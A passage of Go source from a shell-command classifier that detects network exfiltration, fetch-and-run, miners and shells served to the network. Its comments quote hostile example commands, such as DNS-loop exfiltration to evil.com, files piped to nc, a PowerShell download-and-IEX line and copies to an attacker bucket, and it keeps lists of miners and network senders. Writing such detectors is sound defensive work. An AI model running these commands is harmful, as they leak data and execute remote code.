
// ncListens reports nc, ncat or netcat told to listen (-l, --listen, or
// a cluster holding l): a file fed to a listener goes to whoever connects,
// which the README keeps everyday ("a listener that hands a file to
// whoever connects"); a shell fed to one is shellOverNetwork's.
func ncListens(name string, args []shell.Word) bool {
	if name != "nc" && name != "ncat" && name != "netcat" {
		return false
	}
	return slices.ContainsFunc(args, func(a shell.Word) bool {
		return a.Literal && (a.Lit == "--listen" || len(a.Lit) > 1 && a.Lit[0] == '-' && a.Lit[1] != '-' && strings.ContainsRune(a.Lit[1:], 'l'))
	})
}

// fetchToFile reports FreeBSD's fetch(1) writing its file to disk (its
// default, or -o FILE): nothing reaches a pipe, so "fetch URL | sh" runs
// nothing (dev6's label). "-o -" writes to standard output.
func fetchToFile(cmd *shell.Command) bool {
	if path.Base(cmd.Name) != "fetch" {
		return false
	}
	for i, a := range cmd.Args {
		if a.Lit == "-o" && i+1 < len(cmd.Args) && (cmd.Args[i+1].Lit == "-" || cmd.Args[i+1].Lit == "/dev/stdout") || a.Lit == "-o-" {
			return false
		}
	}
	return true
}

// bucketWord reports a copy destination in a cloud bucket, also when the
// object's name is computed at run time ("s3://corp-data/$RemoteName":
// the bucket is written out).
func bucketWord(w shell.Word) bool {
	if w.Literal {
		return bucketURL(w.Lit)
	}
	lead, _, _ := strings.Cut(strings.Trim(w.Raw, `"'`), "$")
	lead, _, _ = strings.Cut(lead, "`")
	return bucketURL(lead) && strings.Contains(strings.SplitN(lead, "://", 2)[1], "/")
}

// bucketOf is the bucket (or container) a bucket URL names.
func bucketOf(u string) string {
	_, rest, _ := strings.Cut(u, "://")
	b, _, _ := strings.Cut(rest, "/")
	return b
}

// bucketToBucket flags a cloud copy from one bucket into another bucket
// ("aws s3 cp s3://corp-data/x s3://attacker-bucket"): the README labels
// an object copied to another bucket network-exfiltration. A copy within
// one bucket, or out of a bucket to here, sends nothing elsewhere.
func (c *checker) bucketToBucket(cmd *shell.Command, name string) {
	if !cloudCLIs[name] && name != "gsutil" && name != "s3cmd" && name != "azcopy" && name != "rclone" {
		return
	}
	if !slices.ContainsFunc(c.subcommandPath(cmd.Args, 4), func(v string) bool { return copyVerbs[v] }) {
		return
	}
	var buckets []shell.Word // the bucket operands; the last is the destination
	for _, o := range operands(cmd.Args) {
		if bucketWord(o) {
			buckets = append(buckets, o)
		}
	}
	if len(buckets) < 2 {
		return
	}
	last := buckets[len(buckets)-1]
	dest := bucketOf(strings.Trim(last.Raw, `"'`))
	for _, o := range buckets[:len(buckets)-1] {
		if src := bucketOf(strings.Trim(o.Raw, `"'`)); src != dest && !strings.ContainsAny(src, "$`") {
			c.because(name, o.Raw, last.Raw)
			c.add(NetworkExfiltration)
			return
		}
	}
}

// pasteCLIs post a file (or their standard input) to a paste or gist
// service, where its URL makes it public.
var pasteCLIs = map[string]bool{"pastebinit": true, "gist": true, "wgetpaste": true, "fpaste": true, "haste": true, "ix": true, "sprunge": true, "termbin": true}

// pasted flags a local file posted to a paste or gist service: a paste
// CLI given a file operand or fed one on standard input, and "gh gist
// create|edit FILE" (the README: "a GitHub gist … is
// network-exfiltration").
func (c *checker) pasted(cmd *shell.Command, name string) {
	args := cmd.Args
	if name == "gh" {
		v := c.subcommandPath(args, 2)
		if len(v) < 2 || v[0] != "gist" || v[1] != "create" && v[1] != "edit" {
			return
		}
		args = args[slices.IndexFunc(args, func(w shell.Word) bool { return w.Lit == v[1] })+1:]
		if v[1] == "edit" {
			// edit's operand is the gist; -a/--add FILE adds a file to it.
			for i, a := range args {
				if (a.Lit == "-a" || a.Lit == "--add") && i+1 < len(args) {
					c.because(name, "gist", "edit", a.Lit, args[i+1].Raw)
					c.add(NetworkExfiltration)
					return
				}
			}
			return
		}
	} else if !pasteCLIs[name] || helpOnly(args) {
		return
	}
	for i, a := range args {
		if i > 0 && slices.Contains([]string{"-d", "--desc", "--description", "-f", "--filename", "-t", "--title", "-b", "--paste-bin", "-s", "--service", "-a", "--author", "-l", "--language", "--syntax"}, args[i-1].Lit) {
			continue
		}
		if a.Literal && !strings.HasPrefix(a.Lit, "-") || a.Literal && a.Lit == "-i" {
			c.because(name, a.Raw)
			c.add(NetworkExfiltration)
			return
		}
	}
	for _, r := range cmd.Redirects {
		if p, ok := shell.PathOf(r.Target); ok && r.Read && p != "/dev/null" {
			c.because(name, p)
			c.add(NetworkExfiltration)
			return
		}
	}
}

// rawSenders send their standard input to the host they name.
var rawSenders = map[string]bool{"nc": true, "ncat": true, "netcat": true, "telnet": true, "socat": true}

// readsLocalFile reports a command that prints a file's content: a file it
// reads (engine/shell's Files) or the file operand of an encoder.
func readsLocalFile(cmd *shell.Command) bool {
	if cmd.Dynamic {
		return false
	}
	if slices.ContainsFunc(cmd.Files(), func(f shell.FileUse) bool {
		return f.Read && (!strings.HasPrefix(f.Path, "/dev/") || diskDevice(f.Path)) && !strings.HasPrefix(f.Path, "/proc/")
	}) || readsDisk(cmd) || gpgFileToStdout(cmd) { // round 11: gpg --output -
		return true
	}
	if !fileEncoders[path.Base(cmd.Name)] {
		return false
	}
	for i, a := range cmd.Args {
		if strings.HasPrefix(a.Lit, "-") && len(a.Lit) > 1 ||
			i > 0 && slices.Contains([]string{"-c", "-n", "-w", "-b", "-s", "-l", "-C", "-o", "-N"}, cmd.Args[i-1].Lit) {
			continue // an option, or the value of one (head -c 1M)
		}
		if !strings.HasPrefix(a.Lit, "/dev/") && !strings.HasPrefix(a.Lit, "/proc/") {
			return true
		}
	}
	return false
}

// pipedFileSent flags a file's content (or a dump, dumpsData) piped into a raw network sender
// or an upload of standard input ("cat notes.txt | nc host 4444",
// "base64 f | curl -d @- URL"): the same upload as "nc host 4444 <
// notes.txt", spelt with a pipe. A sender that listens, or talks to this
// machine, sends it nowhere; ssh is left out (a local script or SQL fed
// to a remote program is everyday).
func (c *checker) pipedFileSent(s *shell.Script, units [][]unit) {
	for i := range s.Commands {
		if !anyUnit(units[i], func(u unit) bool { return readsLocalFile(&u.cmd) || dumpsData(&u.cmd) || capturesSession(&u.cmd) }) || relayBackChannel(s, i) {
			continue // (a relay's FIFO carries the far peer's answer: round 8)
		}
		disk := anyUnit(units[i], func(u unit) bool { return readsDisk(&u.cmd) })
		// A desktop served to whoever connects is sent as a file is
		// (README's first call); a listener handing out a file is not.
		desktop := anyUnit(units[i], func(u unit) bool { return capturesSession(&u.cmd) })
		for j := i + 1; j < len(s.Commands); j++ {
			if s.Commands[j].Pipeline != s.Commands[i].Pipeline {
				continue
			}
			if anyUnit(units[j], func(u unit) bool {
				cmd := &u.cmd
				if cmd.Dynamic {
					return false
				}
				name := path.Base(cmd.Name)
				if rawSenders[name] {
					return (desktop || !ncListens(name, cmd.Args)) && !onlyLocal(cmd.Args) && !hasLit(cmd.Args, "localhost", "127.0.0.1", "::1") &&
						!(name == "socat" && !slices.ContainsFunc(operands(cmd.Args), func(w shell.Word) bool {
							k, _, _ := strings.Cut(strings.ToUpper(w.Lit), ":")
							return socatNetwork(k) && !strings.Contains(w.Lit, "LISTEN")
						}))
				}
				if name == "rclone" {
					return firstVerbIn(cmd.Args, "rcat")
				}
				if name == "croc" {
					// croc sends what is piped to it when given no file
					// (croc's README: "cat [filename] | croc send").
					w := plainWords(cmd.Args, peerSenderValued...)
					return len(w) > 0 && w[0] == "send" && !hasLit(cmd.Args, "--text", "-t", "--ignore-stdin")
				}
				if mailers[name] {
					return true // the piped file is the mail's body, as with mail < FILE
				}
				if pasteCLIs[name] && !helpOnly(cmd.Args) || name == "gh" && slices.Equal(c.subcommandPath(cmd.Args, 2), []string{"gist", "create"}) {
					return true // a paste or gist of standard input
				}
				if name == "ssh" {
					return disk // a disk's image sent is an upload whatever runs there
				}
				return (name == "curl" || name == "wget") && sendsStdin(cmd) && !onlyLocal(cmd.Args)
			}) {
				c.because(path.Base(s.Commands[i].Name), "|", path.Base(s.Commands[j].Name))
				c.add(NetworkExfiltration)
				c.because()
				return
			}
		}
	}
}

// minerWords mark a cryptocurrency miner pointed at a pool.
var minerWords = []string{"stratum+tcp://", "stratum+ssl://", "stratum+tls://", "stratum2+tcp://", "stratum1+tcp://"}

// miners are cryptocurrency miners' programs.
var miners = map[string]bool{"xmrig": true, "xmr-stak": true, "minerd": true, "cpuminer": true, "cpuminer-multi": true,
	"ccminer": true, "cgminer": true, "bfgminer": true, "ethminer": true, "t-rex": true, "nbminer": true, "lolminer": true,
	"phoenixminer": true, "gminer": true, "nanominer": true, "srbminer": true, "teamredminer": true}

// minerRun flags a cryptocurrency miner run (by name, or any program
// given a stratum pool URL): the README's download-execute family names
// miners, code from elsewhere burning the machine.
func (c *checker) minerRun(cmd *shell.Command, name string) {
	if miners[strings.ToLower(name)] && !helpOnly(cmd.Args) {
		c.because(name)
		c.add(DownloadExecute)
		return
	}
	for _, a := range cmd.Args {
		l := strings.ToLower(a.Raw)
		if slices.ContainsFunc(minerWords, func(w string) bool { return strings.Contains(l, w) }) && !plainArguments[name] {
			c.because(name, a.Raw)
			c.add(DownloadExecute)
			return
		}
	}
}

// psDownloads and psRuns are PowerShell's words for fetching text and for
// running text as code. Start-Process of a downloaded installer is left
// out: the everyday corpus (real histories) installs the Cloud SDK so.
var (
	psDownloads = []string{"downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "iwr ", "iwr(", "invoke-restmethod", "irm ", "irm(", "net.webclient", "start-bitstransfer"}
	psRuns      = []string{"iex", "invoke-expression"}
)

// powershellFetchRun flags pwsh/powershell given a command that fetches
// a script and runs it ("IEX (New-Object Net.WebClient).DownloadString(…)",
// "iwr URL | iex"): download-execute as "curl URL | sh" is.
func (c *checker) powershellFetchRun(cmd *shell.Command, name string) {
	n := strings.TrimSuffix(strings.ToLower(name), ".exe")
	if n != "pwsh" && n != "powershell" {
		return
	}
	text := strings.ToLower(cmd.Text)
	if slices.ContainsFunc(psDownloads, func(w string) bool { return strings.Contains(text, w) }) &&
		slices.ContainsFunc(psRuns, func(w string) bool { return strings.Contains(text, w) }) {
		c.because(name)
		c.add(DownloadExecute)
	}
}

// urlOperand is the path of the first URL a command names ("" if none),
// its query left out.
func urlOperand(cmd *shell.Command) string {
	for _, a := range cmd.Args {
		u, _, _ := strings.Cut(a.Lit, "?")
		if _, rest, ok := strings.Cut(u, "://"); a.Literal && ok && strings.Contains(rest, "/") && !strings.HasSuffix(rest, "/") {
			return rest
		}
	}
	return ""
}

// httpSenders send what their arguments hold to the host they name.
var httpSenders = map[string]bool{"curl": true, "wget": true, "http": true, "https": true, "xh": true, "xhs": true}

// credentialArgOpts hand a request its credentials or settings, not its
// content: a file read into one is used, not sent on (README: "a secret
// file is read when its content reaches … a place others read, not when it
// is used").
var credentialArgOpts = map[string]bool{"-H": true, "--header": true, "-u": true, "--user": true, "-b": true, "--cookie": true,
	"-A": true, "--user-agent": true, "-e": true, "--referer": true, "--oauth2-bearer": true, "-E": true, "--cert": true,
	"--key": true, "--cacert": true, "-K": true, "--config": true, "--proxy-user": true, "-U": true, "--http-user": true,
	"--http-password": true, "--password": true, "--header=": true}

// substitutionReadsFile reports a word whose command substitution prints
// a local file's content ($(cat notes.txt), $(base64 -w0 f)).
func substitutionReadsFile(w shell.Word) bool {
	if w.Literal || !strings.ContainsAny(w.Raw, "$`") {
		return false
	}
	s := shell.Parse(": " + w.Raw)
	for i := range s.Commands {
		if s.Commands[i].Nested && readsLocalFile(&s.Commands[i]) {
			return true
		}
	}
	return false
}

// argCarriesFile flags curl, wget or httpie sending a local file's
// content in an argument computed from it (a URL's path or query, -d,
// --post-data): the same upload as "curl -d @notes.txt", spelt with a
// substitution. Its credential options (-H, -u, --cookie) use what they
// read, and a request to this machine sends nothing away.
func (c *checker) argCarriesFile(cmd *shell.Command, name, dir string) {
	if !httpSenders[name] || onlyLocal(cmd.Args) {
		return
	}
	for i, a := range cmd.Args {
		if i > 0 && credentialArgOpts[cmd.Args[i-1].Lit] {
			continue
		}
		if opt, _, ok := strings.Cut(a.Raw, "="); ok && credentialArgOpts[opt] {
			continue
		}
		if substitutionReadsFile(a) && !c.onlyLiteralFiles(a, dir) {
			c.because(name, a.Raw)
			c.add(NetworkExfiltration)
			return
		}
	}
}

// onlyLiteralFiles reports a substitution whose files the line itself
// wrote from literal text before ("echo … > /tmp/loot.txt; curl -d
// "$(cat /tmp/loot.txt)" …"): the README's uploads of a file the line
// wrote with a literal string leak nothing.
func (c *checker) onlyLiteralFiles(w shell.Word, dir string) bool {
	s := shell.Parse(": " + w.Raw)
	seen := false
	for i := range s.Commands {
		for _, f := range s.Commands[i].Files() {
			if !f.Read {
				continue
			}
			if !c.writtenLiterally(shell.Resolve(f.Path, dir, c.home)) {
				return false
			}
			seen = true
		}
	}
	return seen
}

// loopVarSent reports whether word w uses variable v as a DNS label
// ($v.host), in a URL (…://…$v…) or as the whole of a ping pattern.
func loopVarSent(w shell.Word, v string) bool {
	raw := strings.Trim(w.Raw, `"'`)
	for _, ref := range []string{"$" + v, "${" + v + "}"} {
		at := strings.Index(raw, ref)
		if at < 0 {
			continue
		}
		after := raw[at+len(ref):]
		if ref == "$"+v && after != "" && (after[0] == '_' || after[0] >= 'a' && after[0] <= 'z' || after[0] >= 'A' && after[0] <= 'Z' || after[0] >= '0' && after[0] <= '9') {
			continue // $vx is another variable
		}
		if strings.HasPrefix(after, ".") && len(after) > 1 || strings.Contains(raw, "://") {
			return true
		}
	}
	return false
}

// encoders turn a file's bytes into text that fits a DNS label or a URL:
// what an exfiltration loop needs, and a list of names or ids does not.
var encoders = map[string]bool{"xxd": true, "base64": true, "base32": true, "basenc": true, "od": true, "hexdump": true, "uuencode": true}

// readLoopSent flags a file's content, encoded, read line by line ("xxd -p f |
// while read l; do dig $l.evil.com; done", "while read l; do curl
// URL?d=$l; done < f") and each line sent in a DNS name or a URL: the
// README's "sending a file ... in ping payloads" in its DNS and HTTP
// spellings.
func (c *checker) readLoopSent(units [][]unit) {
	fileRead, encoded := false, false
	vars := map[string]bool{}
	for _, us := range units {
		for _, u := range us {
			cmd := &u.cmd
			if readsLocalFile(cmd) {
				fileRead = true
			}
			if !cmd.Dynamic && encoders[path.Base(cmd.Name)] {
				encoded = true
			}
			if !cmd.Dynamic && cmd.Name == "read" {
				for _, w := range plainWords(cmd.Args, "-d", "-n", "-N", "-p", "-t", "-u", "-a") {
					vars[w] = true
				}
				if slices.ContainsFunc(cmd.Redirects, func(r shell.Redirect) bool { return r.Read }) {
					fileRead = true
				}
			}
		}
	}
	if !fileRead || !encoded || len(vars) == 0 {
		return // a list of names or ids read and looked up is everyday
	}
	for _, us := range units {
		for _, u := range us {
			cmd := &u.cmd
			if cmd.Dynamic || !dnsClients[path.Base(cmd.Name)] && !httpSenders[path.Base(cmd.Name)] {
				continue
			}
			for _, a := range cmd.Args {
				for v := range vars {
					if !a.Literal && loopVarSent(a, v) {
						c.because(path.Base(cmd.Name), a.Raw)
						c.add(NetworkExfiltration)
						return
					}
				}
			}
		}
	}
}

// remoteRun flags a runtime told to fetch a program from a URL and run it
// ("deno run https://…/x.ts", "uv run https://…/x.py", "bun run
// https://…"): download-execute as "curl … | sh" is.
func (c *checker) remoteRun(cmd *shell.Command, name string) {
	if name != "deno" && name != "uv" && name != "bun" {
		return
	}
	w := c.plainWords(cmd.Args)
	if len(w) < 2 || w[0] != "run" {
		return
	}
	if strings.HasPrefix(w[1], "https://") || strings.HasPrefix(w[1], "http://") {
		c.because(name, w[0], w[1])
		c.add(DownloadExecute)
	}
}

// uploadOfVariable flags curl or wget sending a file whose name is
// computed at run time (curl -T "$f", -d @$tmp_file, -F "file=@$f", wget
// --post-file="$f"): the upload rules read literal names only, and a file
// named by a variable is still a local file sent to another host (README).
// A request to this machine sends nothing away.
func (c *checker) uploadOfVariable(cmd *shell.Command, name string) {
	if name != "curl" && name != "wget" || onlyLocal(cmd.Args) {
		return
	}
	args := cmd.Args
	for i, a := range args {
		var val shell.Word
		has, at := false, false // at: the value names a file only after @ (or <)
		switch {
		case name == "curl" && (a.Lit == "-T" || a.Lit == "--upload-file") && i+1 < len(args):
			val, has = args[i+1], true
		case name == "curl" && (a.Lit == "-d" || a.Lit == "--data" || a.Lit == "--data-binary" || a.Lit == "--data-urlencode" ||
			a.Lit == "-F" || a.Lit == "--form" || a.Lit == "--json") && i+1 < len(args):
			val, has, at = args[i+1], true, true
		case name == "wget" && (a.Lit == "--post-file" || a.Lit == "--body-file") && i+1 < len(args):
			val, has = args[i+1], true
		case name == "wget" && !a.Literal && (strings.HasPrefix(a.Raw, "--post-file=") || strings.HasPrefix(a.Raw, "--body-file=")):
			_, raw, _ := strings.Cut(a.Raw, "=")
			val, has = shell.Word{Raw: raw}, true
		}
		if !has || val.Literal {
			continue
		}
		raw := strings.Trim(val.Raw, `"'`)
		if at {
			k := strings.IndexAny(raw, "@<")
			if k < 0 || !strings.ContainsAny(raw[k+1:], "$`") || k > 0 && raw[k-1] != '=' && strings.IndexByte(raw[:k], '$') >= 0 {
				continue
			}
		}
		if strings.ContainsAny(raw, "$`") {
			c.because(name, a.Lit, val.Raw)
			c.add(NetworkExfiltration)
			return
		}
	}
}

// terminalServers serve a program's terminal to web or network clients.
var terminalServers = map[string]bool{"ttyd": true, "gotty": true, "websocketd": true, "shellinaboxd": true, "wetty": true}

// sessionSharers share the user's shell with whoever has the link they
// print.
var sessionSharers = map[string]bool{"tmate": true, "sshx": true}

// servedShell flags a shell served to other hosts by a program that is
// not a reverse shell (the README: "serving … a desktop or a shell is"
// network-exfiltration): a terminal server given a shell or login
// (ttyd bash, gotty -w bash, websocketd --port=8080 bash), a shared
// session (tmate, sshx, upterm host), the Docker API served on a TCP
// address or relayed from its socket (root on the machine to whoever
// connects), and a relay or tunnel exposing a remote-access port (bore
// local 22, lt --port 22, socat TCP-LISTEN:… TCP:HOST:22, ssh -g -L or
// -L 0.0.0.0:P:HOST:22).
func (c *checker) servedShell(cmd *shell.Command, name string) {
	args := cmd.Args
	if helpOnly(args) || hasLit(args, "-V", "-v", "--version") && len(args) == 1 {
		return
	}
	served := ""
	switch {
	case terminalServers[name]:
		for _, o := range operands(args) {
			if o.Literal && (shellProgram(o.Lit) || path.Base(o.Lit) == "login") {
				served = o.Lit
				break
			}
		}
	case sessionSharers[name]:
		// tmate alone (or new-session) starts a shared session; its tmux
		// commands (display, show-messages, wait) talk to one.
		if w := plainWords(args, "-S", "-f", "-L", "-k", "-r"); name != "tmate" || len(w) == 0 || w[0] == "new-session" || w[0] == "new" {
			served = name
		}
	case name == "upterm":
		if firstVerbIn(args, "host") {
			served = "upterm host"
		}
	case name == "dockerd":
		for i, a := range args {
			v := ""
			if (a.Lit == "-H" || a.Lit == "--host") && i+1 < len(args) {
				v = args[i+1].Lit
			} else if strings.HasPrefix(a.Lit, "--host=") || strings.HasPrefix(a.Lit, "-H=") {
				_, v, _ = strings.Cut(a.Lit, "=")
			}
			if strings.HasPrefix(v, "tcp://") && !strings.HasPrefix(v, "tcp://127.") && !strings.HasPrefix(v, "tcp://localhost") {
				served = v
			}
		}
	case name == "socat":
		listen, to := false, ""
		for _, o := range operands(args) {
			up := strings.ToUpper(o.Lit)
			switch {
			case strings.Contains(up, "-LISTEN:"):
				listen = true
			case strings.Contains(up, "DOCKER.SOCK"):
				to = o.Lit
			case strings.HasPrefix(up, "TCP:") || strings.HasPrefix(up, "TCP4:") || strings.HasPrefix(up, "TCP6:"):
				parts := splitForward(strings.SplitN(o.Lit, ",", 2)[0])
				if len(parts) == 3 && shellPorts[parts[2]] {
					to = o.Lit
				}
			}
		}
		if listen && to != "" {
			served = to
		}
	case name == "ssh" || name == "autossh":
		// ssh -L [BIND:]PORT:HOST:HOSTPORT listening beyond this machine
		// (-g, a bind of 0.0.0.0, * or an address) to a remote-access
		// port: a login of HOST served to the network.
		gateway := slices.ContainsFunc(args, func(a shell.Word) bool {
			return a.Literal && len(a.Lit) > 1 && a.Lit[0] == '-' && a.Lit[1] != '-' && strings.ContainsRune(a.Lit, 'g') && !strings.ContainsAny(a.Lit, "=/:")
		})
		for i, a := range args {
			if a.Lit != "-L" || i+1 >= len(args) {
				continue
			}
			parts := splitForward(args[i+1].Lit)
			open := gateway || len(parts) == 4 && parts[0] != "localhost" && parts[0] != "127.0.0.1" && parts[0] != "[::1]"
			if len(parts) >= 3 && open && shellPorts[parts[len(parts)-1]] {
				served = args[i+1].Lit
			}
		}
	case name == "bore":
		if w := plainWords(args, "--to", "-t", "--port", "-p", "--secret", "-s", "--local-host", "-l"); len(w) >= 2 && w[0] == "local" && shellPorts[w[1]] {
			served = "bore local " + w[1]
		}
	case name == "lt" || name == "localtunnel":
		for i, a := range args {
			if (a.Lit == "--port" || a.Lit == "-p") && i+1 < len(args) && shellPorts[args[i+1].Lit] {
				served = args[i+1].Lit
			}
		}
	}
	if served != "" {
		c.because(name, served)
		c.add(NetworkExfiltration)
	}
}

// servedRoot flags the file servers servesRoot does not read serving the
// root or the home folder (the README: "serving / is" network-exfiltration):
// ruby -run -e httpd DIR, caddy file-server --root DIR, twistd web --path
// DIR, rclone serve http|webdav|ftp|sftp DIR.
func (c *checker) servedRoot(cmd *shell.Command, name, dir string) {
	args := cmd.Args
	root := ""
	switch {
	case langOf(name) == "ruby":
		for i, a := range args {
			if a.Lit == "httpd" {
				if w := plainWords(args[i+1:], "-p", "--port", "-b", "--bind-address"); len(w) > 0 {
					root = w[0]
				}
			}
		}
	case name == "caddy" && firstVerbIn(args, "file-server"):
		for i, a := range args {
			if (a.Lit == "--root" || a.Lit == "-r") && i+1 < len(args) {
				root = args[i+1].Lit
			}
		}
	case name == "twistd":
		for i, a := range args {
			if a.Lit == "--path" && i+1 < len(args) {
				root = args[i+1].Lit
			} else if strings.HasPrefix(a.Lit, "--path=") {
				root = strings.TrimPrefix(a.Lit, "--path=")
			}
		}
	case name == "rclone":
		if w := plainWords(args, "--addr", "--user", "--pass", "--config"); len(w) >= 3 && w[0] == "serve" {
			root = w[2]
		}
	}
	if root == "" {
		return
	}
	if p := shell.Resolve(root, dir, c.home); p == "/" || p == path.Clean(c.home) {
		c.because(name, root)
		c.add(NetworkExfiltration)
	}
}

// servesFolderNotRoot reports a tunnel's file:// target that is a folder
// other than the root or the home folder ("ngrok http file:///tmp/site/"):
// the README's "serving the project folder is not [exfiltration], serving
// / is", as for the file servers.
func (c *checker) servesFolderNotRoot(target, dir string) bool {
	p, ok := strings.CutPrefix(target, "file://")
	if !ok || p == "" {
		return false
	}
	abs := shell.Resolve(p, dir, c.home)
	return abs != "/" && abs != path.Clean(c.home)
}

// fileSenders send the local files they are given to another machine (a
// peer: croc, magic-wormhole; a cloud drive: mega; an FTP server:
// ncftpput), by the verb that sends ("" when the program only sends).
var fileSenders = map[string]string{"croc": "send", "wormhole": "send", "megaput": "", "mega-put": "", "ncftpput": "",
	// sendme's, portal's, wormhole-william's and qrcp's send
	// (each one's README).
	"sendme": "send", "portal": "send", "wormhole-william": "send", "qrcp": "send"}

// peerSenderValued are croc's (src/cli/cli.go: global and send options)
// and magic-wormhole's (wormhole --help, wormhole send --help) options
// that take a value: the value is not a file sent.
var peerSenderValued = []string{
	"--relay", "--relay6", "--pass", "--socks5", "--connect", "--curve", "--ip", "--out", "--multicast",
	"--throttleUpload", "--revoke", "--code", "-c", "--hash", "--port", "--transfers", "--exclude",
	"--exclude-file", "--store-downloads", "--store-expiration", "--store-url",
	"--relay-url", "--transit-helper", "--appid", "--code-length", "--dump-timing", "--tor-control-port",
}

// transferPut flags the upload spellings of file-transfer clients the
// upload rules do not read: croc|wormhole send FILE, asciinema upload FILE, megaput FILE,
// ncftpput HOST DIR FILE, busybox tftp -p -l FILE, lftp -e|-c "put FILE",
// aws s3api put-object --body FILE, oci os object put --file FILE, b2
// upload-file, rclone rcat fed a file, and socat from a FILE: address to
// a TCP one (README: a local file sent to another host is
// network-exfiltration).
func (c *checker) transferPut(cmd *shell.Command, name string) {
	args := cmd.Args
	if helpOnly(args) {
		return
	}
	sent := ""
	w := c.plainWords(args)
	verb, sender := fileSenders[name]
	switch {
	case sender:
		min := 1
		switch name {
		case "ncftpput":
			w = plainWords(args, "-u", "-p", "-P", "-j", "-c")
			min = 3
		case "croc", "wormhole", "wormhole-william":
			// "send --text TEXT" sends the typed text (croc's README,
			// wormhole's --help): its value is no file, but a file named
			// beside it is still sent (README heldout15).
			w = plainWords(args, append(slices.Clone(peerSenderValued), "--text", "-t")...)
		}
		if verb != "" {
			if len(w) == 0 || w[0] != verb {
				return
			}
			w = w[1:]
		}
		if len(w) >= min {
			sent = w[len(w)-1]
		}
	case name == "tftp" || name == "atftp":
		// busybox tftp -p -l FILE HOST, atftp(1) --put --local-file FILE
		// HOST: put the local file.
		if hasLit(args, "-p", "--put") {
			for i, a := range args {
				if (a.Lit == "-l" || a.Lit == "--local" || a.Lit == "--local-file") && i+1 < len(args) {
					sent = args[i+1].Raw
				}
			}
		}
	case name == "lftp":
		for i, a := range args {
			if (a.Lit == "-e" || a.Lit == "-c") && i+1 < len(args) {
				for _, part := range strings.Split(args[i+1].Lit, ";") {
					f := strings.Fields(part)
					if len(f) > 1 && (f[0] == "put" || f[0] == "mput" || f[0] == "mirror" && slices.Contains(f, "-R")) {
						sent = f[len(f)-1]
					}
				}
			}
		}
	case name == "aws" || name == "oci":
		v := c.subcommandPath(args, 4)
		put := slices.Contains(v, "put-object") || slices.Contains(v, "upload-part") || name == "oci" && slices.Contains(v, "object") && slices.Contains(v, "put")
		for i, a := range args {
			if put && (a.Lit == "--body" || a.Lit == "--file") && i+1 < len(args) {
				sent = args[i+1].Raw
			}
		}
	case name == "onionshare-cli":
		// onionshare-cli FILE…: shared with whoever has the onion
		// address; --receive and --chat take nothing out (its --help).
		if !hasLit(args, "--receive", "--chat") {
			if f := plainWords(args, "--connect-timeout", "--config", "--title", "--auto-start-timer", "--auto-stop-timer", "--persistent"); len(f) > 0 {
				sent = f[0]
			}
		}
	case name == "woof":
		// woof FILE serves it for download; -U serves an upload form
		// (woof -h).
		if !hasLit(args, "-U") {
			if f := plainWords(args, "-i", "-p", "-c"); len(f) > 0 {
				sent = f[0]
			}
		}
	case name == "asciinema":
		// asciinema upload|u FILE: a recording posted to asciinema.org.
		if len(w) >= 2 && (w[0] == "upload" || w[0] == "u") {
			sent = w[1]
		}
	case name == "b2":
		if len(w) >= 3 && (w[0] == "upload-file" || w[0] == "upload_file") {
			sent = w[2]
		}
	case name == "socat":
		sent = socatFileToNetwork(args)
	}
	if sent != "" {
		c.because(name, sent)
		c.add(NetworkExfiltration)
	}
}

// socatFileToNetwork returns the file socat(1) reads and sends to a
// connecting network address ("socat -u FILE:notes.txt TCP:h:p"), or "".
// With -u the first address is read, with -U the second; a file address
// that creates (create, creat, trunc, append) is written to.
func socatFileToNetwork(args []shell.Word) string {
	var addrs []string
	for _, o := range operands(args) {
		if !o.Literal {
			return ""
		}
		addrs = append(addrs, o.Lit)
	}
	if len(addrs) != 2 {
		return ""
	}
	kind := func(a string) (string, string) {
		k, rest, ok := strings.Cut(a, ":")
		if !ok {
			return "", ""
		}
		return strings.ToUpper(k), rest
	}
	fileAt, netAt := -1, -1
	for i, a := range addrs {
		k, rest := kind(a)
		switch {
		case (k == "FILE" || k == "OPEN" || k == "GOPEN" || k == "READ") && !strings.HasPrefix(rest, "/dev/"):
			opts := strings.ToLower(rest)
			if !strings.Contains(opts, ",creat") && !strings.Contains(opts, ",trunc") && !strings.Contains(opts, ",append") {
				fileAt = i
			}
		case socatNetwork(k) && !strings.Contains(k, "LISTEN"):
			netAt = i
		}
	}
	if fileAt < 0 || netAt < 0 {
		return ""
	}
	if hasLit(args, "-u") && fileAt != 0 || hasLit(args, "-U") && fileAt != 1 {
		return ""
	}
	return addrs[fileAt]
}

// diskDevice reports a block device that holds a disk's data (/dev/sda,
// /dev/nvme0n1p2, /dev/mapper/…), not a stream device (/dev/zero,
// /dev/urandom, /dev/null, /dev/tty, /dev/fd/N).
func diskDevice(p string) bool {
	for _, d := range []string{"/dev/sd", "/dev/hd", "/dev/vd", "/dev/xvd", "/dev/nvme", "/dev/mmcblk", "/dev/mapper/", "/dev/disk", "/dev/rdisk", "/dev/md", "/dev/dm-", "/dev/loop", "/dev/mem"} {
		if strings.HasPrefix(p, d) {
			return true
		}
	}
	return false
}

// readsDisk reports dd (or a reader) taking a disk device as its input.
func readsDisk(cmd *shell.Command) bool {
	if cmd.Dynamic {
		return false
	}
	for _, a := range cmd.Args {
		if v, ok := strings.CutPrefix(a.Lit, "if="); ok && path.Base(cmd.Name) == "dd" && diskDevice(v) {
			return true
		}
	}
	return false
}

// receivedNames are the local files a copy from another host writes:
// scp/rsync/sftp HOST:PATH DEST (DEST, or DEST/base when DEST is a
// folder), tftp -g -r REMOTE [-l LOCAL], and nc/ncat/socat's output
// redirected to a file (a program received over a socket).
func receivedNames(cmd *shell.Command, name string) []string {
	if rawSenders[name] {
		var out []string
		for _, r := range cmd.Redirects {
			if p, ok := shell.PathOf(r.Target); ok && r.Write && !strings.HasPrefix(p, "/dev/") {
				out = append(out, p)
			}
		}
		return out
	}
	if name == "tftp" {
		remote, local := "", ""
		for i, a := range cmd.Args {
			if i+1 < len(cmd.Args) && (a.Lit == "-r" || a.Lit == "--remote") {
				remote = cmd.Args[i+1].Lit
			}
			if i+1 < len(cmd.Args) && (a.Lit == "-l" || a.Lit == "--local") {
				local = cmd.Args[i+1].Lit
			}
		}
		if !hasLit(cmd.Args, "-g", "--get") || remote == "" && local == "" {
			return nil
		}
		if local == "" {
			local = path.Base(remote)
		}
		return []string{local}
	}
	ops := plainWords(cmd.Args, "-i", "-P", "-p", "-o", "-F", "-e", "-J", "-l", "-S", "-c")
	if len(ops) < 2 {
		return nil
	}
